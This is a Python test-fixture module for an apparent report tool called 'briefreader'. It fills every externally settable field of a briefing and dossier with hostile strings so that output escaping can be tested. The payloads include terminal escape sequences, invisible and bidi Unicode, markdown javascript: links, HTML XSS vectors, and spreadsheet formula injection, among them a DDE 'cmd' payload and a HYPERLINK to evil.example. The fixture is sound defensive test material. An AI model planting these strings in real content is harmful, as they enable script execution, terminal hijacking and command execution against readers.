"""What somebody might write into an article, a note or a name to make a report do more than show it."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Final

from briefreader.briefing import Briefing, name_articles
from briefreader.markings import Marking
from briefreader.model import Discrepancy, Dropped, Fact, Kind, Severity, Strength, Topic, Uncorroborated
from briefreader.reading.article import Article
from briefreader.report.dossier import Dossier
from briefreader.review.decisions import Cited, Credibility, Relation, Reliability, Sort, Target, Verdict
from briefreader.review.judgements import Judgement, Review, Signed, Stale, Standing
from briefreader.review.reviewed import Reviewed

PAYLOADS: Final = (
    # Terminals: a title, the clipboard, a link, colours, and their one-byte forms.
    "\x1b]0;owned\x07 \x1b]52;c;ZXZpbA==\x07 \x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H \x1bPq#0\x1b\\ \x1bc",
    "\x9b31m \x9d0;owned\x9c \x90q\x9c \x08\x08over \x7f\x00nul\r\x0b\x0c\x1c\x85",
    # Readers: words in another order than they stand in, and what is not seen.
    "\u202eesrever\u202c \u2066isolate\u2069 \u061c\u200e\u200f \u200b\u200d\ufeff\u2060 \u00ad",
    "\u2028a line\u2029a paragraph \U000e0041tagged",
    "עברית العربية فارسی \u0301\u0301\u0301\u0301\u0301\u0301",
    # What cannot be encoded: half a pair, as an undecodable file name has.
    "caf\udce9 \ud800 \ufffe \U0010ffff",
    # Markdown, GitHub's included.
    "\r\n\r\n# A heading\n\n- an item\n\n---\n\n1. one\n\n> said\n\n    code\n\n| a | b |\n|---|---|\n| c | d |\n",
    "text\n===\ntext\n---\n+ plus\n* star\n1) one\n\ttabbed\n: defined\n```\nfence\n```\n~~~\nfence\n~~~",
    "[click](javascript:alert(1)) ![pixel](http://evil.example/x.png) [x]: http://evil.example [^1] [^1]: foot",
    "http://evil.example www.example.org (example.org) <http://evil.example> evil@evil.example mailto:x@evil.example",
    "**bold** __under__ ~~struck~~ ~one~ `code` ``` fence $x^2$ $$y$$ $`z`$ | cell | - [ ] task {{ liquid }} {% if %}",
    "@everyone @org/team #1234 GH-1234 owner/repo#12 :x: :+1: 1f6c1a2b9e \\@everyone \\[x](y) \\#1",
    "> [!WARNING] shouted",
    "- an item",
    "+ an item",
    "1. an item",
    "10) an item",
    "===",
    "---",
    ": defined",
    # HTML.
    "<script>alert(1)</script><img src=x onerror=alert(1)><!-- gone --><style>*{display:none}</style><br>",
    "\"><svg/onload=alert(1)> ' onmouseover='alert(1) \" autofocus onfocus=\"alert(1) </title></textarea></a></p>",
    "&lt;b&gt; &#60;i&#62; &nbsp; &amp;amp; ]]> <![CDATA[ <!DOCTYPE x> <?xml?>",
    # Markup of the libraries that draw.
    "[bold]markup[/bold] [@click=app.bell]x[/] [link=http://evil.example]y[/link] {style} %s {0}",
    # Spreadsheets.
    "=HYPERLINK(\"http://evil.example?\"&A1;\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\u3000\uff1d1+1 \uff0b1 \uff0d1 \uff20x",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "said;=1+1;\"=2+2\"\n=3+3\n\"=4+4\",=5+5",
    "\"quoted\", \"twice\"\"",
    # Too much of it.
    "long" * 1_000 + " " + "word " * 500,
    "end with a backslash \\",
)  # fmt: skip

EVERYTHING: Final = " ".join(PAYLOADS)
"""All of them in one string."""


def hostile_dossier(words: str = EVERYTHING) -> Dossier:
    """Return a dossier in which every string that somebody outside can set is `words`, and all of it is wanted."""
    briefing = hostile_briefing(words)
    judged = Judgement(
        Verdict.CONFIRMED, words, Credibility.POSSIBLE, datetime(2024, 5, 3, 9, 15, tzinfo=UTC), words, by_hand=False,
        noted=Signed(words), graded=Signed(words),
    )  # fmt: skip
    review = Review(
        judgements={"D1": judged, "D2": replace(judged, by_hand=True), "F1": judged, "T1": judged},
        reliability={"A": Reliability.B},
        graded={"A": Signed(words)},
        stale=(
            Stale(Target(Sort.DISCREPANCY, (Cited("1" * 64, 0, len(words), words),), words, Kind.STATUS), judged),
            Stale(Target(Sort.PASSAGES, (Cited("0" * 64, 0, len(words), words),) * 2, words), judged, Relation.SAME),
        ),
    )
    return Dossier(Reviewed(briefing, review), standings=frozenset(Standing), settings=(words,))


def hostile_briefing(words: str = EVERYTHING) -> Briefing:
    """Return a briefing in which every string that an article or a caller can set is `words`."""
    article = Article(
        words, "0" * 64, title=words, publisher=words, author=words, source=words, published=date(2024, 5, 1),
        dropped=(Dropped(0, len(words), words),), told=frozenset({"title"}), marking=Marking(words, 9),
        retrieved=datetime(2024, 5, 2, 8, 0, tzinfo=UTC),
    )  # fmt: skip
    articles = name_articles((article, article))
    a, b = (each.passage(0, len(words)) for each in articles)
    return Briefing(
        articles=articles,
        links=(),
        facts=(Fact("F1", words, Strength.SAME, 99, (a, b), ("D1",)),),
        discrepancies=(
            Discrepancy("D1", Kind.WORDING, Severity.HIGH, 1, words, words, (a, b), "F1"),
            Discrepancy("D2", Kind.QUANTITY, Severity.LOW, 1, words, words, (a, b)),
        ),
        topics=(Topic("T1", words, (words,), (a, b), words),),
        only_in=(Uncorroborated(a, "T1", words), Uncorroborated(b)),
        generated=datetime(2024, 5, 2, 8, 30, tzinfo=UTC),
        marking=words,
        version=words,
        watch=(words, "unseen " + words),
        limits=(words,),
    )
